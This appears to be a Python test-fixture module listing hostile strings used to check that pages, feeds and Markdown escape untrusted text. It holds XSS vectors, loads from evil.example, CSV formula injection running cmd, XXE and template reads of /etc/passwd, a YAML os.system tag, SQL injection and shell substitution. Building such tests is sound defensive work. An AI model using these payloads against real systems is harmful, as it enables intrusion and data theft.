"""Texts that would do harm if any page, title, feed or index took them for code.

Each sets `window.ran` where it runs. `TEXTS` holds one line each, for plain text fields;
`SUMMARIES` are for Markdown. A mark of its own makes each of them findable.
"""

RUN = "window.ran=1"

TEXTS = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><svg onload={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"\"><img src=x onerror='{RUN}'>",
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f'" onfocus="{RUN}" autofocus tabindex=0 x="',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><style><img src=x onerror={RUN}>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    f"<a href=javascript:{RUN}>go</a>",
    f"[go](javascript:{RUN})",
    f"[go](data:text/html,<script>{RUN}</script>)",
    f"<javascript:{RUN}>",
    "![x](https://evil.example/x.png)",
    f'go {{: onclick="{RUN}" }}',
    f'go {{#x onclick="{RUN}" }}',
    f'!!! note "<img src=x onerror={RUN}>"',
    f'=== "<img src=x onerror={RUN}>"',
    f"{{{{ '<script>{RUN}</script>' | safe }}}}",
    "{% include '/etc/passwd' %}",
    '--8<-- "/etc/passwd"',
    "&lt;script&gt; &amp;amp; &#60;b&#62;",
    "title: x",
    "--- # *bold* _it_ `code` ~~no~~ | a | [^1] ^ $x$",
    "<!-- comment --> <![CDATA[x]]> <?php x ?>",
    "عربي \u200f and 한국어 and 😀 \u0301",
)

# What other formats would take for structure, formulas, commands or addresses.
MORE = (
    '=HYPERLINK("https://evil.example/";"go")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    'x";=1+1;"',
    "x;=1+1,=1+1",
    "END:VEVENT BEGIN:VEVENT X:1\\n\\, \\; ;X=1:2",
    "\\nATTACH;VALUE=URI:https://evil.example/x \\",
    "ER  - TY  - JOUR UR  - https://evil.example/",
    "}, url = {https://evil.example/}, x = {",
    "}} @book{x, title = {y}} \\input{/etc/passwd} \\write18{ls} $\\alpha$ 50%",
    '#read("/etc/passwd") #panic("x") #import "x": *',
    '$ x $ @ref <label> *bold* _it_ #link("https://evil.example/")[go] // x /* y',
    "]]></title><script xmlns='http://www.w3.org/1999/xhtml'>window.ran=1</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e; &#x3c;b&#x3e; &nbsp;",
    '"},{"@type":"Person","name":"x","x":"',
    "\\u003cscript\\u003e \\x3cimg \\074b \\\\ \\",
    "{searchTerms} {0} %s %(x)s %27 %3Cb%3E ${window.ran=1} #{1+1} {% raw %} {# x #}",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<svg><style><img src=x onerror=window.ran=1></style></svg>",
    "<form action='javascript:window.ran=1'><button autofocus>x</button></form>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<a id=search><a id=search name=config href=https://evil.example/>x</a>",
    "<textarea><plaintext><xmp><template><select><option>",
    "<video src=x onerror=window.ran=1 poster=https://evil.example/x.png></video>",
    "<object data=https://evil.example/x><embed src=https://evil.example/x></object>",
    "<a href='jav&#x09;ascript:window.ran=1'>x</a>",
    "javascript:window.ran=1//",
    "https://evil.example/ www.evil.example a@evil.example mailto:a@evil.example",
    "[x]: https://evil.example/x.js 'y'",
    "![x](x){ onerror=window.ran=1 } ![y][z] [[x]] [TOC] :smile: ==x== ++y++",
    "*[x]: y",
    "[^1]: note",
    "    indented code",
    "> quoted",
    "1. listed",
    "# heading {: #search }",
    "| a | b | |---|---| | c | d |",
    "``` html <script>window.ran=1</script> ```",
    "- [ ] task - [x] done",
    "key: [a, {b: c}] # no comment & *alias !!python/object:os.system",
    "--- ... %YAML 1.2 ? x : y",
    "no\u00a0break \u202f narrow \u3000 wide",
    "turned \u202eround\u202c \u2066isolated\u2069 joined\u200d\u200c word\u2060joiner",
    "Ｆｕｌｌ ＜script＞window.ran=1＜/script＞ ‹img› ﬁ ½ ſ İ ß",
    "WEBVTT 00:00.000 --> 99:59.000 <v x> <c.y>z</c>",
    "data:text/html,<script>window.ran=1</script>",
    "con nul ../../etc/passwd C:\\x file:///etc/passwd ~/x $HOME `ls` $(ls) | ls; ls && ls",
    "' OR 1=1; DROP TABLE x; --",
    "a" * 300,
    "0",
    "null",
    "2020-01-01",
    "é" * 120 + " 𝔘𝔫𝔦 👩\u200d👩\u200d👧 🇪🇸 ขอบคุณ 日本語",
)

# Whole addresses of the web, which are the only ones that are accepted.
ADDRESSES = (
    "https://evil.example/'onmouseover='window.ran=1'x='",
    "https://evil.example/);alert(1)//",
    "https://evil.example/?a=1&amp;b=2&b=%3Cscript%3E&c='&d=(x)",
    "https://evil.example/x#';window.ran=1;'",
    "https://evil.example/$(ls);=1+1,=2",
    "https://evil.example/]](x)[y](javascript:window.ran=1)",
    "https://evil.example/*bold*/_it_/~x~/@y/!z",
    "https://evil.example/é/日本/\u0301x",
    "https://a:b@evil.example:8443/x",
    "http://evil.example?javascript:window.ran=1",
)

# Written as Markdown, these are blocks: what begins a line is lost on no one.
SUMMARIES = (*TEXTS, f'go\n{{: onclick="{RUN}" }}', f"[x]: javascript:{RUN}\n\n[x] [y][x]")


def mark(number: int) -> str:
    """Return the word that tells one hostile text from the others."""
    return f"qz{number:03d}zq"
